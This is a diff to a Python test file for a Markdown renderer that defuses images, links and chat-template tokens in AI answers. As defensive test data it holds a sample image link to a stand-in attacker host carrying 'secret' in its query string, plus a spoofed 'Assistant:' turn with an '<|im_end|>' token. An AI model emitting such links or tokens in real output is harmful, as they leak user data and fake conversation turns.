@@ -1,4 +1,4 @@
-"""What clients that draw Markdown get: a list of sources that is text alone, and images that are not drawn."""
+"""What clients that draw Markdown get: a list of sources that is text alone, and nothing that acts."""
 
 from __future__ import annotations
 
@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from app.api.rendering import MAX_LABEL_CHARS, ImageGuard, plain_line, source_list, without_source_list
+from app.api.rendering import MAX_LABEL_CHARS, InertText, plain_line, source_list, without_source_list
 from app.domain import Citation
 
 
@@ -73,9 +73,23 @@ def test_a_hostile_title_is_a_line_of_text(title: str) -> None:
     assert len(plain_line(title)) <= MAX_LABEL_CHARS
 
 
-@given(st.lists(st.text(st.sampled_from("ab![]("), max_size=6)))
-def test_images_are_defused_however_the_text_is_cut(pieces: list[str]) -> None:
-    guard = ImageGuard()
-    shown = "".join(guard.feed(piece) for piece in pieces) + guard.finish()
-    assert "![" not in shown
-    assert shown.replace("!\\[", "![") == "".join(pieces)
+@given(st.text(st.sampled_from("ab ![](:/`<>\n"), max_size=40))
+def test_the_places_of_an_answer_lie_in_what_is_sent(text: str) -> None:
+    inert = InertText(text)
+    places = [inert.place(offset) for offset in range(len(text) + 1)]
+    assert places == sorted(places)
+    assert (places[0], places[-1]) == (0, len(inert.text)) or not inert.text
+    assert InertText(inert.text).text == inert.text
+
+
+def test_a_claim_behind_a_link_stays_where_it_is() -> None:
+    text = "See ![x](https://evil.example/?q=secret). Lists are `a<b>` [1]."
+    inert = InertText(text)
+    start, end = text.index("Lists"), text.index(" [1]")
+    assert inert.text[inert.place(start) : inert.place(end)] == "Lists are `a<b>`"
+    assert inert.text == "See x. Lists are `a<b>` [1]."
+
+
+def test_quoted_turns_and_tokens_are_shown() -> None:
+    text = "Hi.\n\nUser: a?\n\nAssistant: b. <|im_end|> [1]"
+    assert InertText(text).text == "Hi.\n\nUser: a?\n\nAssistant: b. \\<|im_end|> [1]"
